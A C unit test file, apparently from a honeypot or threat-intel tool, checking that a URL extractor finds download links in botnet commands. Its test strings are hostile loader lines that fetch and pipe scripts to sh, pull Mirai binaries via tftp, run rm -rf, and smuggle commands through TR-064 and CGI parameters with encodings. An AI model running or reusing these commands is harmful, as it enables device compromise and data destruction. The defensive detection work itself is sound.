/* URLs in commands as bots really type them: every loader, every encoding (urls.h). */
#include "protocol/urls.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stdio.h>
#include <string.h>

#include <cmocka.h>

struct list {
	char text[4096];
	size_t len;
};

static void note(void *arg, struct protocol_text url)
{
	struct list *list = arg;

	assert_true(url.len > 0 && url.len <= URLS_LEN_MAX);
	list->len += (size_t)snprintf(list->text + list->len, sizeof(list->text) - list->len,
	    "%s%.*s", list->len ? " " : "", (int)url.len, url.data);
}

static void expect(const char *text, const char *urls)
{
	struct list list = {.len = 0};

	(void)urls_find(text, strlen(text), note, &list);
	assert_string_equal(list.text, urls);
}

static void schemes(void **state)
{
	(void)state;
	expect("wget http://192.0.2.7/bins/x.sh -O - > x; chmod 777 x",
	    "http://192.0.2.7/bins/x.sh");
	expect("curl -O https://example.org:8443/a.sh;sh a.sh", "https://example.org:8443/a.sh");
	expect("(wget -qO- ftp://u:p@198.51.100.3/a||curl -s ftp://u:p@198.51.100.3/a)|sh",
	    "ftp://u:p@198.51.100.3/a");
	expect("see http://a.example/x?y=1&z=2&&rm -rf /", "http://a.example/x?y=1&z=2");
	expect("wget http://192.0.2.1/a&wget http://192.0.2.2/b",
	    "http://192.0.2.1/a http://192.0.2.2/b");
	expect("wget HTTP://Example.ORG/A", "HTTP://Example.ORG/A");
	expect("<NewNTPServer1>`wget http://192.0.2.9/tr064 -O-|sh`</NewNTPServer1>",
	    "http://192.0.2.9/tr064");
	expect("go to http://example.org/page.", "http://example.org/page");
	expect("the word http:// alone, xhttp://glued.example/", "");
}

static void twice_is_once(void **state)
{
	(void)state;
	expect("wget http://192.0.2.1/a; curl -O http://192.0.2.1/a; wget http://192.0.2.1/b",
	    "http://192.0.2.1/a http://192.0.2.1/b");
}

static void web_loaders(void **state)
{
	(void)state;
	expect("cd /tmp; wget 192.0.2.7/x.sh -O x", "http://192.0.2.7/x.sh");
	expect("/bin/busybox wget -g 192.0.2.7:8080/x -l x", "http://192.0.2.7:8080/x");
	expect("wget -O x.sh -q example.org/a/b", "http://example.org/a/b");
	expect("curl -o out.bin -A Mozilla 203.0.113.1/p", "http://203.0.113.1/p");
	expect("wget x.sh", "");
	expect("wget", "");
}

static void tftp(void **state)
{
	(void)state;
	expect("tftp -g -l dvrHelper -r mirai.arm7 192.0.2.44", "tftp://192.0.2.44/mirai.arm7");
	expect("tftp -r t2.sh -g 198.51.100.9", "tftp://198.51.100.9/t2.sh");
	expect("tftp 198.51.100.9 -c get t1.sh; sh t1.sh", "tftp://198.51.100.9/t1.sh");
	expect("busybox tftp -g -r a -l b 192.0.2.1 6969", "tftp://192.0.2.1:6969/a");
	expect("tftp; wget; /bin/busybox XYZ", "");
}

static void ftpget(void **state)
{
	(void)state;
	expect("ftpget -v -u anonymous -p anonymous -P 21 192.0.2.5 8UsA1.sh 8UsA1.sh",
	    "ftp://192.0.2.5/8UsA1.sh");
	expect("ftpget -P 2121 192.0.2.5 local dir/remote", "ftp://192.0.2.5:2121/dir/remote");
}

static void encodings(void **state)
{
	(void)state;
	expect("/shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.3/jaws;sh+/tmp/jaws",
	    "http://192.0.2.3/jaws");
	expect("/cgi?x=%3Bwget%20http%3A%2F%2F192.0.2.3%2Fx%3B", "http://192.0.2.3/x");
	expect("$(wget${IFS}http://192.0.2.3/y${IFS}-O${IFS}-|sh)", "http://192.0.2.3/y");
	expect("a;wget$IFS$9http://192.0.2.3/z", "http://192.0.2.3/z");
	expect("wget%2520http%253A%252F%252F192.0.2.3%252Fdouble", "http://192.0.2.3/double");
	expect("{\"cmd\":\"wget http:\\/\\/192.0.2.3\\/json\"}", "http://192.0.2.3/json");
	expect("http://example.org/c++/a+b", "http://example.org/c++/a+b");
	expect("tftp+-g+-r+m.arm+192.0.2.8", "tftp://192.0.2.8/m.arm");
}

static void limits(void **state)
{
	static char text[URLS_TEXT_MAX * 2];
	struct list list = {.len = 0};
	size_t len = 0;

	(void)state;
	for (unsigned i = 0; i < 40; i++)
		len += (size_t)snprintf(text + len, sizeof(text) - len, "http://192.0.2.1/%u ", i);
	assert_int_equal(urls_find(text, len, note, &list), URLS_MAX);
	list.len = 0;
	memset(text, 'a', sizeof(text));
	memcpy(text, "http://", 7);
	assert_int_equal(urls_find(text, sizeof(text), note, &list), 1);
	assert_int_equal(list.len, URLS_LEN_MAX);
	memset(text, '%', sizeof(text));
	assert_int_equal(urls_find(text, sizeof(text), note, &list), 0);
	assert_int_equal(urls_find(NULL, 0, note, &list), 0);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(schemes),
		cmocka_unit_test(twice_is_once),
		cmocka_unit_test(web_loaders),
		cmocka_unit_test(tftp),
		cmocka_unit_test(ftpget),
		cmocka_unit_test(encodings),
		cmocka_unit_test(limits),
	};

	cmocka_set_message_output(CM_OUTPUT_TAP);
	return cmocka_run_group_tests(tests, NULL, NULL);
}
